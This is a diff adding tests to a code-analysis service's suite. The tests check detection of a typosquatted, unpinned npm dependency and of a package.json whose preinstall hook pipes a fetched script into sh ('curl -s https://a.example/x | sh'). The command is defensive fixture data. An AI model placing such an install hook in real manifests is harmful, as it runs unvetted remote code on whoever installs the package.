@@ -338,6 +338,39 @@ describe('POST /analyze', () => {
     expect(bare.body.suppressed).toBeUndefined();
   });
 
+  it('reads a manifest by its name, in the language of its ecosystem', async () => {
+    const code = '{\n  "dependencies": {\n    "lodash": "*",\n    "expresss": "4.18.0"\n  }\n}\n';
+    const { status, body } = await analyze({ code, filename: 'web/package.json' });
+    expect(status).toBe(200);
+    expect(body).toMatchObject({ language: 'javascript', dangerous: false, partial: false, diagnostics: [] });
+    expect(body.metrics).toMatchObject({ lines_of_code: 6, functions: 0, per_function: [] });
+    const found = body.findings.map(
+      (one: { rule_id: string; category: string; location: { start: { line: number } } }) => [
+        one.rule_id,
+        one.category,
+        one.location.start.line,
+      ],
+    );
+    expect(found).toEqual([
+      ['dependency/typosquat', 'dependency', 4],
+      ['dependency/unpinned-version', 'dependency', 3],
+    ]);
+    expect((await client.get('/rules/dependency/typosquat')).body).toMatchObject({ category: 'dependency' });
+  });
+
+  it('calls a manifest hostile whose installation runs what it fetched, and reads broken ones', async () => {
+    const code =
+      '{"scripts": {"preinstall": "curl -s https://a.example/x | sh"}, "dependencies": {"lodash": "latest", oops';
+    const { status, body } = await analyze({ code, filename: 'package.json', language: 'typescript' });
+    expect(status).toBe(200);
+    expect(body).toMatchObject({ language: 'javascript', dangerous: true });
+    expect(body.findings.map((one: { rule_id: string }) => one.rule_id)).toEqual([
+      'dangerous/install-script',
+      'dependency/unpinned-version',
+    ]);
+    expect(body.diagnostics.map((one: { code: string }) => one.code)).toEqual(['syntax_error']);
+  });
+
   it('writes no code to the log', async () => {
     await analyze({ code: 'secret_in_code = "hunter2-hunter2"\n', language: 'python', filename: 'private-name.py' });
     expect(service.logs()).not.toMatch(/hunter2|private-name/);
